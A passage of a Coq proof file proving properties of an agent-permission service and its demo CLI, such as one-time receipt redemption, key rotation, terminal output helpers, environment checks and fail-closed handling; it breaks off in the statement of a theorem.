        c' /\
    Service.terminal c' /\
    Service.count (Service.consumed "rec_16") (Service.threads c') = 1 /\
    Service.count (Service.lost "rec_16") (Service.threads c') = 2.
Proof.
  destruct (redemption_at_most_once Instances.acceptAll Service.required ∅
              Instances.store16 "rec_16" VerifierFacts.merge16
              [2000; 2001; 2002]%Z)
    as ((c' & Hrun & Hterm) & _ & Hall & _).
  - reflexivity.
  - reflexivity.
  - simpl. lia.
  - exists c'. destruct (Hall c' Hrun Hterm) as (H1 & H2 & _).
    repeat split; assumption.
Defined.


(* ===================================================================== *)
(** * Runs on concrete inputs                                             *)
(* ===================================================================== *)

Example gate_typo :
  TrustTests.simulateCIGateVerification "rec_TYPO_abc123"
  = {| TrustTests.blocked := true;
       TrustTests.message :=
         "Receipt not found: " ++ Js.dquote ++ "rec_TYPO_abc123" ++ Js.dquote
         ++ ". The receipt may have expired or the ID may be incorrect." |}.
Proof. reflexivity. Qed.

Example gate_wrong_prefix :
  TrustTests.message (TrustTests.simulateCIGateVerification "receipt-uuid")
  = "Invalid receipt ID format: " ++ Js.dquote ++ "receipt-uuid" ++ Js.dquote
    ++ ". Expected rec_ or apr_ prefix.".
Proof. reflexivity. Qed.

Example gate_human_errors : TrustTests.testHumanErrorPath = true.
Proof. reflexivity. Qed.

Example padRight_coloured :
  Output.padRight (Output.colorize "DENIED" Output.red) 9
  = Output.colorize "DENIED" Output.red ++ "   ".
Proof. reflexivity. Qed.

Example padRight_long : Output.padRight "Spending Money" 5 = "Spending Money".
Proof. reflexivity. Qed.

Example stripAnsi_status :
  Output.stripAnsi (" Decision:    " ++ Output.statusColor "REQUIRES_APPROVAL")
  = " Decision:    REQUIRES_APPROVAL".
Proof. reflexivity. Qed.

Example truncate_receipt_id :
  Output.truncate "rec_0123456789abcdef0123456789abcdef0123456789" 40
  = "rec_0123456789abcdef0123456789abcdef0...".
Proof. reflexivity. Qed.

(** The end-to-end scenario of the specification: a first verify with
    redeem succeeds, an immediate second one is refused as redeemed. *)
Example verify_then_redeemed :
  let first := Service.verify Instances.acceptAll Service.required
                 {[ "k1" := VerifierFacts.k1 ]} Instances.store16 2000
                 (VerifierFacts.request16 true) in
  let second := Service.verify Instances.acceptAll Service.required
                  {[ "k1" := VerifierFacts.k1 ]} (fst first) 2001
                  (VerifierFacts.request16 true) in
  (exists view, snd first = Service.Valid view /\
                Service.view_redeemedAt view = Some 2000%Z) /\
  snd second = Service.Invalid Service.PP_REDEEMED.
Proof. vm_compute. split; [eexists; split; reflexivity | reflexivity]. Qed.

(** Rotation and revocation: after two rotations and the revocation of
    the first key, the second key is the active one. *)
Example rotate_then_revoke :
  KeyStore.status <$> (KeyStore.run ∅ Instances.rotations !! "k1")
  = Some KeyStore.revoked /\
  KeyStore.status <$> (KeyStore.run ∅ Instances.rotations !! "k2")
  = Some KeyStore.active /\
  KeyStore.status <$> (KeyStore.run ∅ (take 2 Instances.rotations) !! "k1")
  = Some KeyStore.rotated.
Proof. vm_compute. auto. Qed.

(** The canonical form of the receipt of the end-to-end scenario. *)
Example canonicalize_merge16 :
  Receipt.canonicalize VerifierFacts.merge16
  = "{" ++ Canonicalizer.quote "decision" ++ ":" ++ Canonicalizer.quote "APPROVED"
    ++ "," ++ Canonicalizer.quote "expiresAt" ++ ":3601000"
    ++ "," ++ Canonicalizer.quote "issuedAt" ++ ":1000"
    ++ "," ++ Canonicalizer.quote "receiptId" ++ ":" ++ Canonicalizer.quote "rec_16"
    ++ "," ++ Canonicalizer.quote "scope" ++ ":" ++ Canonicalizer.quote "github:merge"
    ++ "," ++ Canonicalizer.quote "scopeRef" ++ ":"
    ++ Canonicalizer.quote "refs/pull/16/merge"
    ++ "," ++ Canonicalizer.quote "scopeSha" ++ ":" ++ Canonicalizer.quote "abc123"
    ++ "}".
Proof. vm_compute. reflexivity. Qed.


(* ===================================================================== *)
(** * Further properties of the output helpers                            *)
(* ===================================================================== *)

Module ColourFacts.
Import Output.

Lemma app_empty_r (a : string) : a ++ EmptyString = a.
Proof. induction a as [|x a IH]; simpl; [reflexivity|]. f_equal; exact IH. Qed.

Lemma skipParams_app_ESC r s :
  skipParams (r ++ String ESC s) = skipParams r ++ String ESC s.
Proof.
  induction r as [|c r IH]; simpl; [reflexivity|].
  destruct (isSgrParam c); [exact IH | reflexivity].
Qed.

(** A match that starts inside a text does not reach into an escape
    character that follows the text. *)
Lemma matchAnsi_app_ESC c r s :
  matchAnsi (String c r ++ String ESC s) =
  option_map (fun rest => rest ++ String ESC s) (matchAnsi (String c r)).
Proof.
  destruct r as [|b r]; simpl.
  - destruct (Ascii.eqb c ESC); reflexivity.
  - destruct (Ascii.eqb c ESC && Ascii.eqb b "["); [|reflexivity].
    rewrite skipParams_app_ESC.
    destruct (skipParams r) as [|m rest]; simpl; [reflexivity|].
    destruct (Ascii.eqb m "m"); reflexivity.
Qed.

Lemma stripAnsi_app_ESC text s :
  stripAnsi (text ++ String ESC s) = stripAnsi text ++ stripAnsi (String ESC s).
Proof.
  remember (String.length text) as len eqn:Hlen.
  revert text Hlen.
  induction len as [len IH] using lt_wf_ind. intros text Hlen.
  destruct text as [|c r]; [reflexivity|].
  change (String c r ++ String ESC s) with (String c (r ++ String ESC s)).
  rewrite (OutputFacts.stripAnsi_cons c (r ++ String ESC s)).
  rewrite (OutputFacts.stripAnsi_cons c r).
  change (String c (r ++ String ESC s)) with (String c r ++ String ESC s).
  rewrite matchAnsi_app_ESC.
  destruct (matchAnsi (String c r)) as [rest|] eqn:Hm; simpl.
  - apply matchAnsi_length in Hm. eapply IH; [|reflexivity]. subst len. exact Hm.
  - f_equal. eapply IH; [|reflexivity]. subst len. simpl. lia.
Qed.

(** Every entry of the colour table is one escape sequence. *)
Lemma stripAnsi_COLORS color rest :
  stripAnsi (COLORS color ++ rest) = stripAnsi rest.
Proof.
  destruct color; unfold COLORS;
    match goal with
    | |- stripAnsi (String ?c ?r ++ rest) = _ =>
        change (String c r ++ rest) with (String c (r ++ rest))
    end;
    rewrite OutputFacts.stripAnsi_cons; reflexivity.
Qed.

Lemma stripAnsi_colorize text color :
  stripAnsi (colorize text color) = stripAnsi text.
Proof.
  unfold colorize. rewrite stripAnsi_COLORS.
  change (COLORS reset) with (String ESC "[0m").
  rewrite stripAnsi_app_ESC.
  change (String ESC "[0m") with (COLORS reset ++ EmptyString).
  rewrite stripAnsi_COLORS.
  change (stripAnsi EmptyString) with EmptyString.
  apply app_empty_r.
Qed.

Lemma matchAnsi_not_ESC c r : c <> ESC -> matchAnsi (String c r) = None.
Proof.
  intros Hc. destruct r as [|b r]; simpl; [reflexivity|].
  apply Ascii.eqb_neq in Hc. rewrite Hc. reflexivity.
Qed.

Lemma stripAnsi_plain s : Visible.plain s -> stripAnsi s = s.
Proof.
  induction s as [|c r IH]; [reflexivity|]. intros [Hc Hr].
  rewrite OutputFacts.stripAnsi_cons, (matchAnsi_not_ESC c r Hc).
  f_equal. apply IH, Hr.
Qed.

(** Removing sequences never makes a text longer. *)
Lemma stripAnsi_length s : (String.length (stripAnsi s) <= String.length s)%nat.
Proof.
  remember (String.length s) as len eqn:Hlen.
  revert s Hlen.
  induction len as [len IH] using lt_wf_ind. intros s Hlen.
  destruct s as [|c r];
    [change (stripAnsi EmptyString) with EmptyString; lia|].
  rewrite OutputFacts.stripAnsi_cons.
  destruct (matchAnsi (String c r)) as [rest|] eqn:Hm.
  - apply matchAnsi_length in Hm.
    specialize (IH (String.length rest) ltac:(lia) rest eq_refl). lia.
  - simpl in *. specialize (IH (String.length r) ltac:(lia) r eq_refl). lia.
Qed.

(** The colour table gives a different sequence to every name. *)
Lemma colorize_color_inj text c1 c2 :
  colorize text c1 = colorize text c2 -> c1 = c2.
Proof.
  unfold colorize, COLORS.
  destruct c1, c2; simpl; intros H; try reflexivity; discriminate H.
Qed.

Lemma truncate_length text (maxLength : Z) :
  (3 <= maxLength)%Z ->
  (Z.of_nat (String.length (truncate text maxLength)) <= maxLength)%Z.
Proof.
  intros Hmax. unfold truncate.
  destruct (Z.leb_spec (Z.of_nat (String.length text)) maxLength) as [Hle|Hgt];
    [exact Hle|].
  rewrite js_substring_prefix by lia.
  rewrite string_length_app, firstChars_length. simpl. lia.
Qed.

End ColourFacts.

(** X1. Colour adds no visible width: with the ANSI sequences removed, a
    colorized text is the text with its own sequences removed, whatever
    the text and the colour; so [padRight] pads a colorized text by the
    visible length of the text alone. *)
Theorem colorize_invisible (text : string) (color : Output.Color) (width : nat) :
  Output.stripAnsi (Output.colorize text color) = Output.stripAnsi text /\
  Output.padRight (Output.colorize text color) (Z.of_nat width) =
    Output.colorize text color
    ++ Js.repeat " " (width - String.length (Output.stripAnsi text)).
Proof.
  split; [apply ColourFacts.stripAnsi_colorize|].
  unfold Output.padRight. rewrite ColourFacts.stripAnsi_colorize.
  do 2 f_equal. lia.
Qed.

(** X2. A text without the escape character is its own visible text, and
    [padRight] brings it to exactly the larger of the width and its
    length. *)
Theorem padRight_plain (text : string) (width : nat) :
  Visible.plain text ->
  Output.stripAnsi text = text /\
  String.length (Output.padRight text (Z.of_nat width))
  = Nat.max width (String.length text).
Proof.
  intros Hplain. pose proof (ColourFacts.stripAnsi_plain text Hplain) as Hs.
  split; [exact Hs|].
  unfold Output.padRight. rewrite Hs, string_length_app, repeat_space_length. lia.
Qed.

Lemma padRight_plain_witness :
  Visible.plain " Tool:        billing.charge" /\
  String.length (Output.padRight " Tool:        billing.charge" 63) = 63.
Proof.
  assert (Hplain : Visible.plain " Tool:        billing.charge")
    by (simpl; repeat split; discriminate).
  split; [exact Hplain|].
  destruct (padRight_plain " Tool:        billing.charge" 63 Hplain) as [_ H].
  exact H.
Defined.

(** X3. The visible text is never longer than the text, so the result of
    [padRight] has at least [width] code units and at least those of the
    text; a text whose visible length is [width] or more is returned
    unchanged, never cut. *)
Theorem padRight_at_least_width (text : string) (width : nat) :
  (String.length (Output.stripAnsi text) <= String.length text)%nat /\
  (width <= String.length (Output.padRight text (Z.of_nat width)))%nat /\
  (String.length text <= String.length (Output.padRight text (Z.of_nat width)))%nat /\
  ((String.length (Output.stripAnsi text) >= width)%nat ->
   Output.padRight text (Z.of_nat width) = text).
Proof.
  pose proof (ColourFacts.stripAnsi_length text) as Hle.
  unfold Output.padRight. rewrite string_length_app, repeat_space_length.
  repeat split; try lia.
  intros Hge.
  replace (Z.to_nat (Z.max 0 (Z.of_nat width
             - Z.of_nat (String.length (Output.stripAnsi text))))) with 0%nat by lia.
  apply ColourFacts.app_empty_r.
Qed.

(** X4. [statusColor] shows the status itself in one colour: green for
    APPROVED and nothing else, yellow for REQUIRES_APPROVAL and nothing
    else, red for DENIED and ERROR and nothing else, white for every
    other string; with the sequences removed it is the status with its
    own sequences removed. *)
Theorem statusColor_classes (status : string) :
  (Output.statusColor status = Output.colorize status Output.green
   <-> status = "APPROVED") /\
  (Output.statusColor status = Output.colorize status Output.yellow
   <-> status = "REQUIRES_APPROVAL") /\
  (Output.statusColor status = Output.colorize status Output.red
   <-> status = "DENIED" \/ status = "ERROR") /\
  (Output.statusColor status = Output.colorize status Output.white
   <-> status <> "APPROVED" /\ status <> "REQUIRES_APPROVAL" /\
       status <> "DENIED" /\ status <> "ERROR") /\
  Output.stripAnsi (Output.statusColor status) = Output.stripAnsi status.
Proof.
  unfold Output.statusColor.
  destruct (String.eqb_spec status "APPROVED") as [-> | H1].
  { repeat split; try reflexivity; try discriminate;
      try (intros H; apply ColourFacts.colorize_color_inj in H; discriminate H);
      try (intros [H | H]; discriminate H);
      try (intros (H & _); contradiction);
      apply ColourFacts.stripAnsi_colorize. }
  destruct (String.eqb_spec status "DENIED") as [-> | H2].
  { repeat split; try reflexivity; try discriminate; auto;
      try (intros H; apply ColourFacts.colorize_color_inj in H; discriminate H);
      try (intros (_ & _ & H & _); contradiction);
      apply ColourFacts.stripAnsi_colorize. }
  destruct (String.eqb_spec status "REQUIRES_APPROVAL") as [-> | H3].
  { repeat split; try reflexivity; try discriminate;
      try (intros H; apply ColourFacts.colorize_color_inj in H; discriminate H);
      try (intros [H | H]; discriminate H);
      try (intros (_ & H & _); contradiction);
      apply ColourFacts.stripAnsi_colorize. }
  destruct (String.eqb_spec status "ERROR") as [-> | H4].
  { repeat split; try reflexivity; try discriminate; auto;
      try (intros H; apply ColourFacts.colorize_color_inj in H; discriminate H);
      try (intros (_ & _ & _ & H); contradiction);
      apply ColourFacts.stripAnsi_colorize. }
  repeat split; try assumption; try reflexivity;
    try (intros H; apply ColourFacts.colorize_color_inj in H; discriminate H);
    try (intros H; contradiction);
    try (intros [H | H]; contradiction);
    apply ColourFacts.stripAnsi_colorize.
Qed.

(** X5. For [maxLength >= 3], truncating twice is truncating once. *)
Theorem truncate_idempotent (text : string) (maxLength : Z) :
  (3 <= maxLength)%Z ->
  Output.truncate (Output.truncate text maxLength) maxLength
  = Output.truncate text maxLength.
Proof.
  intros Hmax. pose proof (ColourFacts.truncate_length text maxLength Hmax) as Hlen.
  unfold Output.truncate at 1.
  apply Z.leb_le in Hlen. rewrite Hlen. reflexivity.
Qed.

Lemma truncate_idempotent_witness :
  Output.truncate (Output.truncate "abcdefghij" 6) 6 = "abc...".
Proof.
  rewrite (truncate_idempotent "abcdefghij" 6 ltac:(lia)). reflexivity.
Defined.

(** X6. Below 3 the bound does not hold: for [maxLength < 3], every text
    longer than [maxLength] is replaced by the three dots alone, which
    are longer than [maxLength]. *)
Theorem truncate_small_maxLength (text : string) (maxLength : Z) :
  (maxLength < 3)%Z -> (maxLength < Z.of_nat (String.length text))%Z ->
  Output.truncate text maxLength = "..." /\
  (maxLength < Z.of_nat (String.length (Output.truncate text maxLength)))%Z.
Proof.
  intros Hsmall Hlong.
  assert (H : Output.truncate text maxLength = "...").
  { unfold Output.truncate.
    destruct (Z.leb_spec (Z.of_nat (String.length text)) maxLength); [lia|].
    unfold Js.substring, Js.clampIndex.
    replace (Z.to_nat (Z.min (Z.max 0 0) (Z.of_nat (String.length text)))) with 0%nat by lia.
    replace (Z.to_nat (Z.min (Z.max (maxLength - 3) 0) (Z.of_nat (String.length text))))
      with 0%nat by lia.
    simpl. destruct text; reflexivity. }
  rewrite H. split; [reflexivity | simpl; lia].
Qed.

Lemma truncate_small_maxLength_witness :
  Output.truncate "ab" 1 = "..." /\
  (1 < Z.of_nat (String.length (Output.truncate "ab" 1)))%Z.
Proof.
  apply (truncate_small_maxLength "ab" 1); simpl; lia.
Defined.


Module ReportFacts.
Import Demo Index.

(** The two lines [validateEnv] writes for a variable. *)
Definition report (name hint : string) : list event :=
  [ console_error ("Error: " ++ name ++ " environment variable is required");
    console_error hint ].

Lemma validateEnv_trace (env : gmap string string) :
  trace (validateEnv env) =
  if Js.falsy_opt (env !! "PP_ENDPOINT") then
    report "PP_ENDPOINT" "Set it to your Permission Protocol API endpoint"
  else if Js.falsy_opt (env !! "PP_API_KEY") then
    report "PP_API_KEY" "Get an API key from your Permission Protocol instance"
  else if Js.falsy_opt (env !! "PP_TENANT_ID") then
    report "PP_TENANT_ID" "This is your company/tenant ID in Permission Protocol"
  else [].
Proof.
  unfold validateEnv, trace.
  destruct (env !! "PP_ENDPOINT") as [[|c1 e]|];
    destruct (env !! "PP_API_KEY") as [[|c2 a]|];
    destruct (env !! "PP_TENANT_ID") as [[|c3 t]|];
    reflexivity.
Qed.

Lemma falsy_opt_missing (v : option string) :
  Js.falsy_opt v = true <-> v = None \/ v = Some EmptyString.
Proof.
  destruct v as [[|c s]|]; simpl; split; auto.
  - discriminate.
  - intros [H | H]; discriminate H.
Qed.

(** The status a gated scenario expects. *)
Definition EXPECTED_STATUS (s : Scenarios.Scenario) : string :=
  match s with
  | Scenarios.spend => Scenarios.spend_EXPECTED_STATUS
  | Scenarios.prod => Scenarios.prod_EXPECTED_STATUS
  | Scenarios.message => Scenarios.message_EXPECTED_STATUS
  end.

End ReportFacts.

(** X7. [validateEnv] reports one variable per run, the first one that
    is unset or empty in the order PP_ENDPOINT, PP_API_KEY,
    PP_TENANT_ID, with two lines on stderr, whatever the later variables
    are; it writes nothing when the three are set, and never writes to
    stdout; PP_AGENT_ID has no part in what is written. *)
Theorem validateEnv_reports_first_missing (env : gmap string string) :
  let missing (name : string) :=
    env !! name = None \/ env !! name = Some EmptyString in
  let written := Demo.trace (Index.validateEnv env) in
  (missing "PP_ENDPOINT" ->
   written =
     [ Demo.console_error "Error: PP_ENDPOINT environment variable is required";
       Demo.console_error "Set it to your Permission Protocol API endpoint" ]) /\
  (~ missing "PP_ENDPOINT" -> missing "PP_API_KEY" ->
   written =
     [ Demo.console_error "Error: PP_API_KEY environment variable is required";
       Demo.console_error
         "Get an API key from your Permission Protocol instance" ]) /\
  (~ missing "PP_ENDPOINT" -> ~ missing "PP_API_KEY" -> missing "PP_TENANT_ID" ->
   written =
     [ Demo.console_error "Error: PP_TENANT_ID environment variable is required";
       Demo.console_error
         "This is your company/tenant ID in Permission Protocol" ]) /\
  (~ missing "PP_ENDPOINT" -> ~ missing "PP_API_KEY" ->
   ~ missing "PP_TENANT_ID" -> written = []) /\
  (forall e, e ∈ written -> exists line, e = Demo.console_error line) /\
  (forall agent,
     Demo.trace (Index.validateEnv (<[ "PP_AGENT_ID" := agent ]> env)) = written).
Proof.
  intros missing written. subst written.
  assert (Hm : forall name, missing name <-> Js.falsy_opt (env !! name) = true).
  { intros name. symmetry. apply ReportFacts.falsy_opt_missing. }
  rewrite !ReportFacts.validateEnv_trace.
  repeat split.
  - intros H. apply Hm in H. rewrite H. reflexivity.
  - intros H1 H2. apply Hm in H2. rewrite Hm in H1.
    apply not_true_is_false in H1. rewrite H1, H2. reflexivity.
  - intros H1 H2 H3. apply Hm in H3. rewrite Hm in H1, H2.
    apply not_true_is_false in H1, H2. rewrite H1, H2, H3. reflexivity.
  - intros H1 H2 H3. rewrite Hm in H1, H2, H3.
    apply not_true_is_false in H1, H2, H3. rewrite H1, H2, H3. reflexivity.
  - intros e.
    destruct (Js.falsy_opt (env !! "PP_ENDPOINT"));
      [|destruct (Js.falsy_opt (env !! "PP_API_KEY"));
        [|destruct (Js.falsy_opt (env !! "PP_TENANT_ID"))]];
      unfold ReportFacts.report;
      rewrite ?elem_of_cons, elem_of_nil;
      intros H; decompose [or] H; subst; try contradiction; eexists; reflexivity.
  - intros agent. rewrite ReportFacts.validateEnv_trace.
    rewrite !lookup_insert_ne by discriminate. reflexivity.
Qed.

(** X8. In the spend, prod-write and message scenarios a box that shows
    the status as matching the expected one goes with no tool call: the
    box is the RESULT box of a result whose status is the expected one,
    DENIED or REQUIRES_APPROVAL, and the run invokes no mock tool. *)
Theorem matching_status_runs_no_tool
    (execute : Demo.ExecuteRequest -> Demo.Exn + Demo.ExecuteResult)
    (Date_now : Z) (sendResult : Demo.SendCampaignInput -> Demo.ToolResult)
    (s : Scenarios.Scenario) (tenantId agentId : string)
    (opts : Demo.FormatOptions) :
  Demo.console_log (Demo.formatResult opts)
    ∈ Demo.trace (Scenarios.run execute Date_now sendResult s tenantId agentId) ->
  Demo.statusMatch opts = Some true ->
  (exists r, execute (Scenarios.request s tenantId agentId) = inr r /\
     Demo.result opts = Some r /\ Demo.phase opts = Demo.RESULT /\
     Demo.status r = ReportFacts.EXPECTED_STATUS s) /\
  Demo.toolCalls
    (Demo.trace (Scenarios.run execute Date_now sendResult s tenantId agentId))
  = [].
Proof.
  destruct s;
    unfold Scenarios.run, Scenarios.spend_run, Scenarios.prod_run,
      Scenarios.message_run, Scenarios.PermissionRouter_execute,
      Scenarios.run_chargeCustomer, Scenarios.run_writeRecord,
      Scenarios.run_sendCampaignMessage, Scenarios.request;
    DemoFacts.demo_run;
    match goal with |- context [execute ?q] => destruct (execute q) as [e|r] end;
    DemoFacts.demo_run;
    try (destruct (String.eqb_spec (Demo.status r) "APPROVED") as [Happ|Happ];
         DemoFacts.demo_run);
    rewrite ?elem_of_cons, elem_of_nil;
    intros Hin Hmatch; decompose [or] Hin; clear Hin;
    try contradiction; try discriminate;
    repeat match goal with
      | H : Demo.console_log _ = Demo.console_log _ |- _ =>
          injection H as H; subst opts; cbn in Hmatch
      end;
    try discriminate;
    injection Hmatch as Hmatch; apply String.eqb_eq in Hmatch;
    try (rewrite Happ in Hmatch; discriminate Hmatch);
    (split; [exists r; repeat split; exact Hmatch | reflexivity]).
Qed.

Lemma matching_status_runs_no_tool_witness :
  Demo.toolCalls (Demo.trace (Scenarios.run
    (fun _ => inr {| Demo.status := "DENIED";
                     Demo.receipt := {| Demo.receiptId := "rec_7";
                                        Demo.reasonCodes := [] |} |})
    1700000000000 (fun _ => {| Demo.resultId := "msg_1"; Demo.success := true |})
    Scenarios.spend "acme" "demo-agent"))
  = [].
Proof.
  refine (proj2 (matching_status_runs_no_tool _ _ _ Scenarios.spend "acme"
    "demo-agent"
    {| Demo.scenarioName := Scenarios.spend_SCENARIO_NAME;
       Demo.tool := Scenarios.spend_TOOL;
       Demo.operation := Scenarios.spend_OPERATION;
       Demo.phase := Demo.RESULT; Demo.input := None;
       Demo.result :=
         Some {| Demo.status := "DENIED";
                 Demo.receipt := {| Demo.receiptId := "rec_7";
                                    Demo.reasonCodes := [] |} |};
       Demo.expectedStatus := Some Scenarios.spend_EXPECTED_STATUS;
       Demo.statusMatch := Some true |} _ _)).
  - vm_compute. right. right. left.
  - reflexivity.
Defined.

(** X9. The mock tools do nothing but log one notice and return
    [success: true] with an identifier made of a fixed prefix and
    [Date.now()]: the identifier does not depend on the input, two calls
    of one tool return the same identifier exactly when the clock reads
    the same, and a transaction identifier is never a record
    identifier. *)
Theorem mock_tool_identifiers
    (now1 now2 : Z) (charge1 charge2 : Demo.ChargeCustomerInput)
    (write1 write2 : Demo.WriteRecordInput) :
  let chargeCustomer now input :=
    Demo.outcome (Scenarios.run_chargeCustomer now input) in
  let writeRecord now input :=
    Demo.outcome (Scenarios.run_writeRecord now input) in
  (exists r1 r2 w1 w2,
     chargeCustomer now1 charge1 = inr r1 /\ chargeCustomer now2 charge2 = inr r2 /\
     writeRecord now1 write1 = inr w1 /\ writeRecord now2 write2 = inr w2 /\
     Demo.success r1 = true /\ Demo.success w1 = true /\
     (Demo.resultId r1 = Demo.resultId r2 <-> now1 = now2) /\
     (Demo.resultId w1 = Demo.resultId w2 <-> now1 = now2) /\
     Demo.resultId r1 <> Demo.resultId w2) /\
  Demo.trace (Scenarios.run_chargeCustomer now1 charge1)
  = [ Demo.tool_invoked (Demo.chargeCustomer charge1);
      Demo.console_log (Demo.mockNotice (Demo.chargeCustomer charge1)) ] /\
  Demo.trace (Scenarios.run_writeRecord now1 write1)
  = [ Demo.tool_invoked (Demo.writeRecord write1);
      Demo.console_log (Demo.mockNotice (Demo.writeRecord write1)) ].
Proof.
  intros chargeCustomer writeRecord.
  split; [|split; reflexivity].
  eexists _, _, _, _.
  repeat (split; [reflexivity|]). cbn.
  split; [|split].
  - split; [|intros ->; reflexivity].
    intros H. apply (inj (String.append "txn_mock_")) in H.
    apply CanonicalizerFacts.numberToString_inj, H.
  - split; [|intros ->; reflexivity].
    intros H. apply (inj (String.append "rec_mock_")) in H.
    apply CanonicalizerFacts.numberToString_inj, H.
  - discriminate.
Qed.


(* ===================================================================== *)
(** * Properties of the fail-closed scenario and of the trust tests       *)
(* ===================================================================== *)

Module ProcessFacts.
Import Process.

(** Runs the monad's operations in the goal. *)
Ltac process_run :=
  repeat (unfold mbind, mret, process_bind, process_ret, bind, ret, emit,
            throw, process_exit_with, try_catch, trace, outcome, console_log,
            console_error, PermissionRouter_execute, PermissionRouter_reset,
            PermissionRouter_configure; cbn).

(** A computation that only adds events after those already there, and
    whose events and outcome do not depend on them. *)
Definition appends {A} (m : M A) : Prop :=
  forall tr, m tr = ((tr ++ trace m)%list, outcome m).

Lemma appends_ret {A} (a : A) : appends (mret a).
Proof. intros tr. process_run. rewrite app_nil_r. reflexivity. Qed.

Lemma appends_emit (e : event) : appends (emit e).
Proof. intros tr. reflexivity. Qed.

Lemma appends_exit {A} (code : Z) : appends (@process_exit_with A code).
Proof. intros tr. process_run. rewrite app_nil_r. reflexivity. Qed.

Lemma appends_throw {A} (e : Router.Thrown) : appends (@throw A e).
Proof. intros tr. process_run. rewrite app_nil_r. reflexivity. Qed.

Lemma appends_start {A} (m : M A) : m [] = (trace m, outcome m).
Proof. unfold trace, outcome. destruct (m []); reflexivity. Qed.

Lemma trace_bind {A B} (m : M A) (k : A -> M B) :
  appends m -> (forall a, appends (k a)) ->
  trace (m ≫= k) =
  (trace m ++ match outcome m with inr a => trace (k a) | inl _ => [] end)%list.
Proof.
  intros Hm Hk. unfold mbind, process_bind, bind.
  unfold trace at 1. rewrite appends_start.
  destruct (outcome m) as [s|a]; cbn.
  - rewrite app_nil_r. reflexivity.
  - rewrite Hk. reflexivity.
Qed.

Lemma outcome_bind {A B} (m : M A) (k : A -> M B) :
  appends m -> (forall a, appends (k a)) ->
  outcome (m ≫= k) =
  match outcome m with inr a => outcome (k a) | inl s => inl s end.
Proof.
  intros Hm Hk. unfold mbind, process_bind, bind.
  unfold outcome at 1. rewrite appends_start.
  destruct (outcome m) as [s|a]; cbn; [reflexivity|].
  rewrite Hk. reflexivity.
Qed.

Lemma appends_bind {A B} (m : M A) (k : A -> M B) :
  appends m -> (forall a, appends (k a)) -> appends (m ≫= k).
Proof.
  intros Hm Hk tr. rewrite trace_bind, outcome_bind by assumption.
  unfold mbind, process_bind, bind. rewrite Hm.
  destruct (outcome m) as [s|a].
  - rewrite app_nil_r. reflexivity.
  - rewrite Hk, app_assoc. reflexivity.
Qed.

Lemma trace_try_catch {A} (body : M A) (handler : Router.Thrown -> M A) :
  appends body -> (forall e, appends (handler e)) ->
  trace (try_catch body handler) =
  (trace body ++ match outcome body with
                 | inl (thrown e) => trace (handler e)
                 | _ => []
                 end)%list.
Proof.
  intros Hb Hh. unfold try_catch. unfold trace at 1. rewrite appends_start.
  destruct (outcome body) as [[code|e|e]|a]; cbn; rewrite ?app_nil_r;
    try reflexivity.
  rewrite Hh. reflexivity.
Qed.

Lemma outcome_try_catch {A} (body : M A) (handler : Router.Thrown -> M A) :
  appends body -> (forall e, appends (handler e)) ->
  outcome (try_catch body handler) =
  match outcome body with
  | inl (thrown e) => outcome (handler e)
  | other => other
  end.
Proof.
  intros Hb Hh. unfold try_catch. unfold outcome at 1. rewrite appends_start.
  destruct (outcome body) as [[code|e|e]|a]; cbn; try reflexivity.
  rewrite Hh. reflexivity.
Qed.

Lemma appends_try_catch {A} (body : M A) (handler : Router.Thrown -> M A) :
  appends body -> (forall e, appends (handler e)) ->
  appends (try_catch body handler).
Proof.
  intros Hb Hh tr. rewrite trace_try_catch, outcome_try_catch by assumption.
  unfold try_catch. rewrite Hb.
  destruct (outcome body) as [[code|e|e]|a]; rewrite ?app_nil_r;
    try reflexivity.
  rewrite Hh, app_assoc. reflexivity.
Qed.

Definition liftStop {A} (o : Demo.stop + A) : stop + A :=
  match o with
  | inr a => inr a
  | inl (Demo.process_exit code) => inl (process_exit code)
  | inl (Demo.thrown e) => inl (scenario_thrown e)
  end.

Lemma lift_run {A} (m : Demo.M A) (tr : list event) :
  lift m tr = ((tr ++ map demo (Demo.trace m))%list, liftStop (Demo.outcome m)).
Proof.
  unfold lift, liftStop. destruct (Demo.outcome m) as [[code|e]|a]; reflexivity.
Qed.

Lemma trace_lift {A} (m : Demo.M A) : trace (lift m) = map demo (Demo.trace m).
Proof. unfold trace. rewrite lift_run. reflexivity. Qed.

Lemma outcome_lift {A} (m : Demo.M A) :
  outcome (lift m) = liftStop (Demo.outcome m).
Proof. unfold outcome. rewrite lift_run. reflexivity. Qed.

Lemma appends_lift {A} (m : Demo.M A) : appends (lift m).
Proof. intros tr. rewrite trace_lift, outcome_lift. apply lift_run. Qed.

Lemma appends_forEach {A} (l : list A) (f : A -> M unit) :
  (forall a, appends (f a)) -> appends (forEach l f).
Proof.
  intros Hf. induction l as [|a l IH]; cbn [forEach].
  - apply appends_ret.
  - apply appends_bind; [apply Hf | intros _; exact IH].
Qed.

Lemma appends_console_log line : appends (console_log line).
Proof. apply appends_emit. Qed.

Lemma appends_console_error line : appends (console_error line).
Proof. apply appends_emit. Qed.

Lemma appends_execute execute req : appends (PermissionRouter_execute execute req).
Proof.
  unfold PermissionRouter_execute.
  apply appends_bind; [apply appends_emit|]. intros _.
  destruct (execute req); [apply appends_throw | apply appends_ret].
Qed.

(** Proves [appends] for a computation built from the operations. *)
Ltac appends :=
  repeat match goal with
    | |- forall _, _ => intro
    | |- appends _ => assumption
    | |- appends (mbind _ _) => apply appends_bind
    | |- appends (mret _) => apply appends_ret
    | |- appends (emit _) => apply appends_emit
    | |- appends (process_exit_with _) => apply appends_exit
    | |- appends (throw _) => apply appends_throw
    | |- appends (lift _) => apply appends_lift
    | |- appends (console_log _) => apply appends_console_log
    | |- appends (console_error _) => apply appends_console_error
    | |- appends (PermissionRouter_execute _ _) => apply appends_execute
    | |- appends PermissionRouter_reset => apply appends_emit
    | |- appends (PermissionRouter_configure _) => apply appends_emit
    | |- appends (try_catch _ _) => apply appends_try_catch
    | |- appends (forEach _ _) => apply appends_forEach
    | |- appends (if ?b then _ else _) => destruct b
    | |- appends (match ?x with _ => _ end) => destruct x
    end.

End ProcessFacts.

(** X10. The fail-closed scenario sends one request and catches whatever
    the SDK throws: it returns normally exactly when the SDK throws,
    showing the FAIL_CLOSED box with the error's code, or UNKNOWN for
    anything that is not a [PermissionProtocolError]; when the SDK
    returns a result, whatever its status, it shows the UNEXPECTED box
    and ends the process with exit code 1.  No error escapes it, and it
    writes nothing but its boxes. *)
Theorem fail_closed_run
    (execute : Router.Request -> Router.Thrown + Demo.ExecuteResult)
    (tenantId agentId : string) :
